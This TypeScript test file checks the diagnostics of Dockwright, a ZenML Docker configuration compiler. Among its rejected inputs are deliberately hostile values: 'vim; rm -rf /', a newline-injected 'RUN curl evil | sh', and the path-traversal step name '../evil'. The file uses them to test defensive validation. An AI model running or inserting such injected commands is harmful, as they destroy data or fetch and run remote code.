/**
 * Every diagnostic code has a case that provokes it, with the message checked. The table is typed
 * over all codes, so a new code without a case is a type error.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { Compiler, codes, type CompileHost, type Diagnostic, type DiagnosticCode, type Plugin } from "@dockwright/core";
import { localEnv } from "@dockwright/plugin-local-env";
import { rulesFor, zenml } from "@dockwright/plugin-zenml";
import { stringify } from "yaml";
import { afterAll, describe, expect, it } from "vitest";
import { compileConfig } from "../packages/cli/src/pipeline.ts";
import { memoryHost } from "./support/memory-host.ts";

type Case = {
  config: unknown;
  host?: CompileHost;
  plugins?: Plugin[];
  platform?: string;
  /** Compile through the CLI's pipeline with a real source root holding these files. */
  files?: Record<string, string>;
  expect: Partial<Diagnostic>;
};

const scratch = await mkdtemp(path.join(tmpdir(), "dockwright-errors-"));
afterAll(() => rm(scratch, { recursive: true, force: true }));

async function diagnosticsOf({ config, host, plugins, platform, files }: Case): Promise<Diagnostic[]> {
  if (files) {
    const root = await mkdtemp(path.join(scratch, "root-"));
    for (const [name, text] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(root, name)), { recursive: true });
      await writeFile(path.join(root, name), text);
    }
    const configPath = `${root}.yaml`;
    await writeFile(configPath, stringify(config));
    const result = await compileConfig({ configPath, root, out: `${root}-out` });
    if ("message" in result) throw new Error(result.message);
    return result.diagnostics;
  }
  const compiler = new Compiler(plugins ?? [zenml()]);
  const result = await compiler.compile({ config, pipelineName: "p", host: host ?? memoryHost(), ...(platform ? { platform } : {}) });
  return result.diagnostics;
}

const includeSources = { allow_including_files_in_images: true, allow_download_from_code_repository: false, allow_download_from_artifact_store: false };

/** Codes that no compile can provoke, and the test that provokes each. */
const provokedElsewhere = {
  NO_SOURCE_ROOT: "packages/context/src/warnings.test.ts",
  CONTEXT_UNREADABLE: "packages/context/src/walk.test.ts",
  UNSUPPORTED_BY_BACKEND: "packages/emit-dockerfile/src/index.test.ts",
} as const;

const docker = (settings: unknown) => ({ settings: { docker: settings } });

const cases: Record<Exclude<DiagnosticCode, keyof typeof provokedElsewhere>, Case> = {
  INVALID_CONFIG: {
    config: { steps: ["trainer"] },
    expect: { path: "steps", message: expect.stringContaining("A run configuration looks like") },
  },
  INVALID_TYPE: {
    config: docker({ skip_build: "maybe" }),
    expect: { path: "settings.docker.skip_build", message: 'got "maybe"; expected true or false.' },
  },
  INVALID_VALUE: {
    config: { steps: { "../evil": {} } },
    expect: { path: 'steps["../evil"]', message: expect.stringContaining("is not a valid step name") },
  },
  UNKNOWN_KEY: {
    // Before 0.82 pydantic rejects unknown keys; later releases ignore them (a warning, tested below).
    config: docker({ requirments: ["x"] }),
    plugins: [zenml({ version: "0.81" })],
    expect: { path: "settings.docker.requirments", message: 'unknown setting "requirments". Did you mean `requirements`?' },
  },
  DEPRECATED_FIELD: {
    config: docker({ source_files: "include" }),
    expect: {
      severity: "warning",
      path: "settings.docker.source_files",
      message: "`source_files` is deprecated in ZenML 0.93.0: write `allow_including_files_in_images: true, allow_download_from_code_repository: false, allow_download_from_artifact_store: false`.",
    },
  },
  CONFLICTING_FIELDS: {
    config: docker({ source_files: "include", allow_download_from_code_repository: false }),
    expect: { severity: "warning", path: "settings.docker.source_files" },
  },
  SKIP_BUILD_WITHOUT_PARENT: {
    config: { steps: { trainer: { settings: { docker: { skip_build: true } } } } },
    expect: { path: "steps.trainer.settings.docker.skip_build", message: expect.stringContaining("Set `parent_image`") },
  },
  INSTALL_COMMAND_WITHOUT_FILES: {
    config: docker({ local_project_install_command: "pip install -e .", allow_including_files_in_images: false }),
    expect: { path: "settings.docker.local_project_install_command" },
  },
  INVALID_APT_PACKAGE: {
    config: { steps: { trainer: { settings: { docker: { apt_packages: ["git", "curl", "vim; rm -rf /"] } } } } },
    expect: { path: "steps.trainer.settings.docker.apt_packages[2]", message: expect.stringContaining('"vim; rm -rf /" is not a Debian package name') },
  },
  INVALID_ENV_NAME: {
    config: docker({ environment: { "MY-VAR": "1" } }),
    expect: { path: 'settings.docker.environment.MY-VAR', message: expect.stringContaining("not a valid environment variable name") },
  },
  DUPLICATE_ENV_NAME: {
    config: docker({ environment: { debug: "1", DEBUG: "0" } }),
    expect: { severity: "warning", path: "settings.docker.environment.DEBUG", message: expect.stringContaining("both become DEBUG") },
  },
  UNSAFE_VALUE: {
    config: docker({ environment: { A: "line\nRUN curl evil | sh" } }),
    expect: { path: "settings.docker.environment.A", message: expect.stringContaining("a newline would end the instruction") },
  },
  INVALID_IMAGE_REF: {
    config: docker({ parent_image: "Python:3.11 AS x" }),
    expect: { path: "settings.docker.parent_image", message: expect.stringContaining("is not an image reference") },
  },
  INVALID_USER: {
    config: docker({ user: "root --chown=0" }),
    expect: { path: "settings.docker.user" },
  },
  INVALID_PATH: {
    config: docker({ requirements: "" }),
    expect: { path: "settings.docker.requirements", message: expect.stringContaining("is empty") },
  },
  INVALID_INSTALLER_ARG: {
    config: docker({ python_package_installer_args: { "--index-url": "x" } }),
    expect: { path: 'settings.docker.python_package_installer_args["--index-url"]', message: expect.stringContaining("without leading dashes") },
  },
  UNKNOWN_INTEGRATION: {
    config: docker({ required_integrations: ["sklearn", "sklern"] }),
    expect: { path: "settings.docker.required_integrations[1]", message: expect.stringContaining('ZenML 0.93.0 has no integration "sklern"; the closest are `sklearn`') },
  },
  UNKNOWN_STACK_FLAVOR: {
    config: { stack: { components: [{ type: "orchestrator", flavor: "kubeflw" }] } },
    expect: { path: "stack.components[0].flavor", message: expect.stringContaining("did you mean `kubeflow`?") },
  },
  NO_PARENT_IMAGE: {
    config: {},
    // A preset that gives the rules and the default stack, but no default parent image.
    plugins: [{
      name: "NoParent",
      core: "^0.1.0",
      apply(c) {
        c.hooks.rules.tap("NoParent", () => rulesFor("0.93.0").rules);
        c.hooks.flavors.tap("NoParent", () => new Map([
          ["orchestrator", new Map([["local_docker", { integration: null, containerized: true }]])],
          ["artifact_store", new Map([["local", { integration: null }]])],
        ]));
      },
    }],
    expect: { path: "settings.docker.parent_image", message: expect.stringContaining("no parent image") },
  },
  NO_PRESET: {
    config: {},
    plugins: [],
    expect: { message: expect.stringContaining("add `@dockwright/plugin-zenml`") },
  },
  UNSET_VARIABLE: {
    config: docker({ parent_image: "${BASE_IMAGE}" }),
    expect: { path: "settings.docker.parent_image", message: expect.stringContaining("BASE_IMAGE, which is not set") },
  },
  FILE_NOT_FOUND: {
    config: docker({ requirements: "requirements-dev.txt" }),
    expect: {
      path: "settings.docker.requirements",
      message: 'the requirements file "/src/requirements-dev.txt" does not exist. Fix the path (relative paths start at "/src"), or give the requirements as a list.',
    },
  },
  LOCAL_ENVIRONMENT_UNAVAILABLE: {
    config: docker({ replicate_local_python_environment: "pip_freeze" }),
    expect: { path: "settings.docker.replicate_local_python_environment", message: expect.stringContaining("@dockwright/plugin-local-env") },
  },
  CODE_DOWNLOAD_UNAVAILABLE: {
    config: docker({ source_files: "download" }),
    expect: { path: "settings.docker.allow_download_from_code_repository", message: expect.stringContaining("no registered code repository holds the source root") },
  },
  CODE_NOT_UPLOADED: {
    config: docker({ parent_image: "python:3.11" }),
    files: { "app.py": "" },
    expect: { severity: "warning", path: "settings.docker.allow_download_from_artifact_store", message: expect.stringContaining("nothing uploaded the archive") },
  },
  SETTING_IGNORED: {
    config: docker({ parent_image: "python:3.11", skip_build: true, apt_packages: ["git"] }),
    expect: { severity: "warning", path: "settings.docker.apt_packages", message: expect.stringContaining("skip_build") },
  },
  PLUGIN_INCOMPATIBLE: {
    config: {},
    plugins: [{ name: "Old", core: "^0.0.1", apply() {} }],
    expect: {},
  },
  INVALID_REQUIREMENT: {
    config: docker({ requirements: ["torch=1.0"] }),
    expect: { path: "settings.docker.requirements[0]", message: expect.stringContaining("uses `=`, which is not a version operator") },
  },
  REQUIREMENTS_CONFLICT: {
    config: docker({ requirements: ["numpy==1.26.4", "numpy>=2"] }),
    expect: { path: "settings.docker.requirements[0]", message: expect.stringContaining("no version satisfies both") },
  },
  LOCAL_ENVIRONMENT_FAILED: {
    config: docker({ replicate_local_python_environment: ["false"] }),
    plugins: [zenml(), localEnv()],
    host: memoryHost({}, tmpdir()),
    expect: { path: "settings.docker.replicate_local_python_environment", message: expect.stringContaining("`false` exited with code 1") },
  },
  CREDENTIAL_IN_URL: {
    config: docker({ parent_image: "python:3.11", python_package_installer_args: { "index-url": "https://user:s3cret@pypi.example.com/simple" } }),
    expect: {
      path: "settings.docker.python_package_installer_args.index-url",
      message: expect.stringMatching(/^"https:\/\/\*\*\*@pypi\.example\.com\/simple" holds a credential in a URL.*`secrets: \[\{id: index-url, source_env: PIP_INDEX_URL, env: PIP_INDEX_URL\}\]` \(with uv: `env: UV_INDEX_URL`\)/),
    },
  },
  SECRET_IN_ENVIRONMENT: {
    config: docker({ environment: { hf_token: "hf_abc" } }),
    expect: { severity: "warning", path: "settings.docker.environment.hf_token", message: expect.stringContaining("`secrets: [{id, source_env, env}]`") },
  },
  INVALID_DOCKERIGNORE: {
    config: docker({ parent_image: "python:3.11", ...includeSources }),
    files: { ".dockerignore": "# fine\nsrc/[\n" },
    expect: { message: expect.stringContaining("line 2 of") },
  },
  CONTEXT_WARNING: {
    config: docker({ parent_image: "python:3.11", ...includeSources }),
    files: { "app.py": "", ".env": "AWS_SECRET_ACCESS_KEY=x\n" },
    expect: { severity: "warning", message: expect.stringContaining(".env") },
  },
};

describe("every diagnostic code", () => {
  it("has a case here, or in the test named for it", async () => {
    expect([...Object.keys(cases), ...Object.keys(provokedElsewhere)].sort()).toEqual(Object.values(codes).sort());
    for (const [code, file] of Object.entries(provokedElsewhere)) {
      expect(await readFile(path.join(import.meta.dirname, "..", file), "utf8"), file).toContain(code);
    }
  });

  it.each(Object.entries(cases).filter(([code]) => code !== "PLUGIN_INCOMPATIBLE"))("%s", async (code, c) => {
    const diagnostics = await diagnosticsOf(c);
    expect(diagnostics).toContainEqual(expect.objectContaining({ code, severity: "error", ...c.expect }));
  });

  it("PLUGIN_INCOMPATIBLE: registering a plugin made for another core is a programming error", () => {
    expect(() => new Compiler([{ name: "Old", core: "^0.0.1", apply() {} }])).toThrow(
      'PLUGIN_INCOMPATIBLE: plugin "Old" supports @dockwright/core "^0.0.1", but this is 0.1.0',
    );
  });

  it("UNKNOWN_KEY is a warning from 0.82, which ignores unknown keys", async () => {
    const diagnostics = await diagnosticsOf({ config: docker({ requirments: ["x"] }), expect: {} });
    expect(diagnostics).toContainEqual({
      code: "UNKNOWN_KEY",
      severity: "warning",
      path: "settings.docker.requirments",
      message: 'unknown setting "requirments", which ZenML 0.93.0 ignores. Did you mean `requirements`?',
    });
  });

  it("UNSAFE_VALUE warns that `$VAR` stays text from 0.74, where ZenML quotes the value; before, Docker expands it", async () => {
    const config = docker({ parent_image: "python:3.11", environment: { path: "/opt/bin:$PATH" } });
    expect(await diagnosticsOf({ config, expect: {} })).toContainEqual({
      code: "UNSAFE_VALUE",
      severity: "warning",
      path: "settings.docker.environment.path",
      message: "`$PATH` stays text: ZenML 0.93.0 writes the value in single quotes, where Docker expands no variable, so PATH holds `/opt/bin:$PATH` as is. " +
        "Write the value out in full (for PATH: the parent's directories too), or use a release before 0.74, which lets Docker expand it.",
    });
    const before = await diagnosticsOf({ config, plugins: [zenml({ version: "0.73" })], expect: {} });
    expect(before.filter((d) => d.code === "UNSAFE_VALUE")).toEqual([]);
  });

  it("build args and labels of a user Dockerfile are checked before they reach a builder's arguments", async () => {
    const diagnostics = await diagnosticsOf({
      config: docker({ dockerfile: "Dockerfile", source_files: "ignore", parent_image_build_config: { build_options: { buildargs: { "A=B": "1", OK: "a\u0000b" }, labels: [] } } }),
      host: memoryHost({ Dockerfile: "FROM scratch\n" }),
      expect: {},
    });
    expect(diagnostics.filter((d) => d.severity === "error").map((d) => [d.code, d.path])).toEqual([
      ["INVALID_VALUE", 'settings.docker.parent_image_build_config.build_options.buildargs["A=B"]'],
      ["UNSAFE_VALUE", "settings.docker.parent_image_build_config.build_options.buildargs.OK"],
      ["INVALID_TYPE", "settings.docker.parent_image_build_config.build_options.labels"],
    ]);
  });

  it("an invalid platform is an invalid value", async () => {
    const diagnostics = await diagnosticsOf({ config: {}, platform: "amd64", expect: {} });
    expect(diagnostics[0]).toMatchObject({ code: "INVALID_VALUE", path: "platform" });
  });
});
